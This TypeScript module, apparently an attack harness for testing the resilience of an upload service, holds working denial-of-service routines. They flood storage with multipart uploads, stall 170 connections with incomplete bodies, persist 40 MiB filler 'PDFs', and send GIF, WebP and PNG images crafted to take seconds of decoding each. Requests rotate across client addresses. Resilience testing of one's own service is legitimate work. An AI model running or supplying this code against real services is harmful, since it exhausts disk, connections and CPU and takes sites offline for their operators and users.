import { randomBytes } from 'node:crypto'
import { setTimeout as pause } from 'node:timers/promises'
import sharp from 'sharp'
import { publicKeyOf, type Statuses, stranger } from './stranger.ts'

const mebibyte = 1024 * 1024
const selection = 40 * mebibyte

type UploadAttack = Readonly<{
  signal: AbortSignal
  addresses?: readonly string[]
}>

const oneAddress = ['198.51.100.1']

export async function fillDisk(
  site: string,
  { signal, addresses = oneAddress }: UploadAttack,
): Promise<Statuses> {
  const { statuses, open, put } = stranger(site, { key: await publicKeyOf(site), signal })
  const bytes = randomBytes(5 * mebibyte)
  for (let round = 0; !signal.aborted; round += 1) {
    const opened = await Promise.all(
      Array.from({ length: 40 }, async (_, index) => {
        const address = addresses[(round + index) % addresses.length] ?? ''
        return { address, upload: await open(address, selection) }
      }),
    )
    const parts = opened.flatMap(({ address, upload }) =>
      (upload?.parts ?? []).map((part) => ({ address, ...part })),
    )
    await inParallel(12, parts, ({ address, url, size }) => put(address, url, bytes.subarray(0, size), size))
    await pause(200)
  }
  return statuses
}

export async function stallOnePart(
  site: string,
  { signal, addresses = oneAddress }: UploadAttack,
): Promise<Statuses> {
  const { statuses, open, put } = stranger(site, { key: await publicKeyOf(site), signal })
  const upload = await open(addresses[0] ?? '', 5 * mebibyte)
  const part = upload?.parts[0]
  if (!part) return statuses
  const most = randomBytes(part.size - mebibyte)
  const stalled = () =>
    new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(most)
      },
    })
  await Promise.all(
    Array.from({ length: 170 }, async (_, index) => {
      while (!signal.aborted) {
        await put(addresses[index % addresses.length] ?? '', part.url, stalled(), part.size)
        await pause(200)
      }
    }),
  )
  return statuses
}

export async function fillForGood(
  site: string,
  { signal, addresses = oneAddress }: UploadAttack,
): Promise<Statuses> {
  const { statuses, open, putAll, complete, quote } = stranger(site, { key: await publicKeyOf(site), signal })
  const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(selection - 9)])
  for (let sent = 0; !signal.aborted; sent += 1) {
    const address = addresses[sent % addresses.length] ?? ''
    const upload = await open(address, bytes.length)
    if (!upload) {
      await pause(200)
      continue
    }
    await putAll(address, upload, bytes)
    const completed = await complete(address, upload)
    if (completed.status !== 200) continue
    // The response of our own server.
    const { key } = JSON.parse(completed.text) as { key: string }
    await quote(address, upload.cookie, [key], `Filler ${sent}`)
  }
  return statuses
}

async function inParallel<Item>(
  limit: number,
  items: readonly Item[],
  work: (item: Item) => Promise<unknown>,
): Promise<void> {
  const left = items.values()
  await Promise.all(
    Array.from({ length: limit }, async () => {
      for (const item of left) await work(item)
    }),
  )
}

/** 109 frames of a megapixel each in a few kilobytes: 10 to 20 s of decoding. */
async function longGif(): Promise<Buffer> {
  const create = { width: 1000, height: 1000, channels: 3 as const, background: 'red' }
  const one = await sharp({ create }).gif({ effort: 1 }).toBuffer()
  // The global color table begins at byte 13; after it comes the frame, and a trailer of one byte.
  const table = 13 + 3 * 2 ** (((one[10] ?? 0) & 7) + 1)
  const frame = one.subarray(table, -1)
  return Buffer.concat([one.subarray(0, table), ...Array<Buffer>(109).fill(frame), one.subarray(-1)])
}

/** 16 megapixels of noise: some seconds of decoding. */
const noisyWebp = () =>
  sharp({
    create: {
      ...{ width: 4000, height: 4000, channels: 3, background: 'gray' },
      noise: { type: 'gaussian', mean: 128, sigma: 60 },
    },
  })
    .webp({ quality: 40, effort: 0 })
    .toBuffer()

/** 20 megapixels of 16 bits in some hundred kilobytes. */
const deepPng = () =>
  sharp({ create: { width: 5000, height: 4000, channels: 3, background: 'red' } })
    .toColourspace('rgb16')
    .png()
    .toBuffer()

export async function floodImages(
  site: string,
  { signal, addresses = ['198.51.100.1'] }: { signal: AbortSignal; addresses?: readonly string[] },
): Promise<Statuses> {
  const { statuses, open, putAll, complete } = stranger(site, { key: await publicKeyOf(site), signal })
  const images = [await longGif(), await noisyWebp(), await deepPng()]
  async function sendOneByOne(address: string, first: number) {
    for (let sent = first; !signal.aborted; sent += 1) {
      const image = new Uint8Array(images[sent % images.length] ?? [])
      const upload = await open(address, image.length)
      if (!upload) {
        await pause(200)
        continue
      }
      await putAll(address, upload, image)
      await complete(address, upload)
    }
  }
  await Promise.all(addresses.flatMap((address) => [0, 1, 2, 3].map((first) => sendOneByOne(address, first))))
  return statuses
}
